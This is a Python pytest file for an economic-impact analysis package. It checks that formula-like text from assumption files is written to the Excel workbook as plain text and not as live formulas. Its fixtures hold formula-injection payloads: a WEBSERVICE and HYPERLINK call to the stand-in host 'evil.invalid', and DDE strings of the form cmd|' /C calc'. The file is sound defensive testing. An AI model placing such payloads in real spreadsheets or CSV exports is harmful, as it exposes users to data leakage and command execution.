"""Text from assumption files can never become a live Excel formula (CSV/formula injection).

Labels, sources, descriptions and titles starting with '=', '+', '-' or '@' are written as text
cells (``data_type == 's'``); only the What-if sheet's own formulas are formulas.
"""
from __future__ import annotations

import shutil

import openpyxl
import pytest

import impact
from impact.assumptions import DEFAULT_DIR

from .conftest import edit

# end to end: a run writes the workbook and CSV tables with injected text; `-m "not slow"` leaves the file out
pytestmark = pytest.mark.slow

MARK = "evil.invalid"
# id: (file, exact text in the defaults, replacement); each value carries f"{MARK}/{id}"
INJECTED = {
    "title": ("settings.yaml", "  title: Economic impact of a U.S. FTO designation of Mexican cartels\n",
              f"  title: '=WEBSERVICE(\"http://{MARK}/title\")'\n"),
    "source": ("channels.yaml",   # first line of a folded (>) source: the value now starts with '='
               "        BEA International Transactions, travel imports from Mexico, 2024 (26.3 bn). "
               "Low end: 18 bn derived for\n",
               f"        =HYPERLINK(\"http://{MARK}/source\", \"click\")\n"),
    "label": ("channels.yaml", "      label: Time cost of a day in transit\n",
              f"      label: \"+cmd|' /C calc'!A0 {MARK}/label\"\n"),
    "description": ("channels.yaml",
                    "  description: U.S. general imports of goods from Mexico (Census, customs value), "
                    "annual sums of monthly forecasts.\n",
                    f"  description: \"-2+3+cmd|' /C calc'!A0 {MARK}/description\"\n"),
    "scenario": ("scenarios.yaml", "  label: FTO designation (S0)\n",
                 f"  label: \"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}/scenario\"\n"),
    "shock": ("scenarios.yaml",
              "      source: \"USDA-APHIS suspensions of about one week (Feb-2022, Jun-2024; AP); "
              "high end = -6 % of exposed lines.\"\n",
              f"      source: \"=1+1+HYPERLINK(\\\"http://{MARK}/shock\\\")\"\n"),
}


@pytest.fixture(scope="module")
def workbook(tmp_path_factory, cache_dir):
    root = tmp_path_factory.mktemp("inject")
    adir = root / "assumptions"
    shutil.copytree(DEFAULT_DIR, adir)
    for file, old, new in INJECTED.values():
        edit(adir, file, old, new)
    a = impact.load_assumptions(adir)
    assert a.settings.title.startswith("=") and a.scenario("designation").label.startswith("@")
    res = impact.run_analysis(a, draws=100, seed=1, sensitivity=False, cache_dir=cache_dir)
    path = root / "inject.xlsx"
    impact.write_workbook(res, str(path))
    return openpyxl.load_workbook(path)


def _marked(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and MARK in c.value:
                    yield ws.title, c


@pytest.mark.slow
def test_formula_like_text_from_assumptions_is_written_as_text(workbook):
    hits = list(_marked(workbook))
    assert hits, "none of the injected strings reached the workbook"
    for sheet, cell in hits:
        assert cell.data_type == "s", f"{sheet}!{cell.coordinate} is {cell.data_type!r}: {cell.value!r}"
    starts = {cell.value[0] for _sheet, cell in hits}
    assert {"=", "+", "-", "@"} <= starts, f"not every formula character was exercised: {starts}"


@pytest.mark.parametrize("key", list(INJECTED))
def test_each_injected_field_is_written_as_text(workbook, key):
    cells = [(s, c) for s, c in _marked(workbook) if f"{MARK}/{key}" in c.value]
    assert cells, f"{key}: not found in the workbook"
    assert any(c.value[0] in "=+-@" for _s, c in cells), f"{key}: never written at the start of a cell"
    for s, c in cells:
        assert c.data_type == "s", f"{key}: {s}!{c.coordinate} = {c.value!r} ({c.data_type})"


def test_only_the_what_if_sheet_has_formulas(workbook):
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert ws.title == "What-if", f"{ws.title}!{c.coordinate}: {c.value!r}"
                    assert MARK not in str(c.value)
